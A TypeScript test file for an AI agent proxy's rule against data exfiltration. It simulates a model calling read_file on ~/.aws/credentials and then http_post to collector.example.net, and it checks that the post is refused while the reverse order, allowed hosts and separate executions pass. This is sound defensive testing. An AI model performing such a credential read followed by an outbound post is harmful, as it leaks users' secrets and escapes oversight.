import { APIError } from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startProxyRig, type ProxyRig } from './harness.ts';
import { eventually } from '../harness/control-plane.ts';
import { READ_AND_POST_REQUEST } from './read-and-post.ts';
import { openAiClient } from './sdk-options.ts';
import { failure } from '../harness/failure.ts';

/**
 * The Immune System's sequence rule through the proxy with the OpenAI SDK: a model asking to
 * read `~/.aws/credentials`, then to post to a host outside the allow list, is refused on the
 * second call as DATA_EXFILTRATION; the same calls in the other order, or the post to an allowed
 * host, pass. One SEMANTIC DENY rule on `tool:http_*` judging `tool_args`.
 */
let rig: ProxyRig;

const READ_CREDENTIALS = JSON.stringify({ path: '~/.aws/credentials' });
const postTo = (host: string) =>
  JSON.stringify({ url: `https://${host}/ingest`, body: JSON.stringify({ report: 'weekly summary' }) });

beforeAll(async () => {
  rig = await startProxyRig({ semantic_judge_allowed_hosts: 'uploads.acme.example' });
  await rig.addPolicy({
    name: 'no-exfiltration-over-http',
    priority: 500,
    rules: [
      {
        action: 'tool:http_*',
        effect: 'deny',
        conditions: [{ field: 'tool_args', operator: 'semantic', value: 'DATA_EXFILTRATION' }],
      },
    ],
  });
});
afterAll(async () => {
  await rig.close();
});

function client(execution: string, tool: string, args: string) {
  return openAiClient(rig.agent, {
    'X-Svc-Execution-Id': execution,
    'x-sim-tool-call': tool,
    'x-sim-tool-args': args,
  });
}

/** One model answer asking for `tool` with `args`, in execution `execution`. */
function ask(execution: string, tool: string, args: string) {
  return client(execution, tool, args).chat.completions.create(READ_AND_POST_REQUEST);
}

/** The same, streamed: the arguments as received. */
async function askStreamed(execution: string, tool: string, args: string): Promise<string> {
  let received = '';
  for await (const chunk of await client(execution, tool, args).chat.completions.create({
    ...READ_AND_POST_REQUEST,
    stream: true,
  }))
    received += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? '';
  return received;
}

describe('a secret read, then a post out, in one execution', () => {
  it('refuses the post as DATA_EXFILTRATION, naming the sequence', async () => {
    const read = await ask('exec-immune-1', 'read_file', READ_CREDENTIALS);
    expect(read.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'read_file' } });
    const error = await failure(() => ask('exec-immune-1', 'http_post', postTo('collector.example.net')));
    expect(error).toBeInstanceOf(APIError);
    expect((error as APIError).status).toBe(403);
    expect((error as APIError).code).toBe('SVC-POL-2001');
    expect((error as APIError).message).toContain('judged DATA_EXFILTRATION');
    expect((error as APIError).message).toContain('collector.example.net');
    // The built-in rule's match is a detection the control plane keeps, as a tenant rule's is.
    const page = await eventually(
      async () =>
        (await rig.admin('GET', '/v1/brain/immune-system/detections?execution_id=exec-immune-1')).body as {
          detections: Record<string, unknown>[];
        },
      (p) => p.detections.length > 0,
      5000,
      100,
    );
    expect(page.detections).toEqual([
      expect.objectContaining({ kind: 'sequence', category: 'DATA_EXFILTRATION', action: 'tool:http_post' }),
    ]);
  });

  it('refuses it in a stream too', async () => {
    expect(await askStreamed('exec-immune-stream', 'read_file', READ_CREDENTIALS)).toBe(READ_CREDENTIALS);
    const error = await failure(() => askStreamed('exec-immune-stream', 'http_post', postTo('collector.example.net')));
    expect((error as Error).message).toContain('judged DATA_EXFILTRATION');
  });

  it('lets the same calls through in the other order', async () => {
    const post = await ask('exec-immune-2', 'http_post', postTo('collector.example.net'));
    expect(post.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'http_post' } });
    const read = await ask('exec-immune-2', 'read_file', READ_CREDENTIALS);
    expect(read.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'read_file' } });
  });

  it('lets the post through to an allowed host, and in another execution', async () => {
    await ask('exec-immune-3', 'read_file', READ_CREDENTIALS);
    const allowed = await ask('exec-immune-3', 'http_post', postTo('uploads.acme.example'));
    expect(allowed.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'http_post' } });
    const elsewhere = await ask('exec-immune-4', 'http_post', postTo('collector.example.net'));
    expect(elsewhere.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'http_post' } });
  });
});
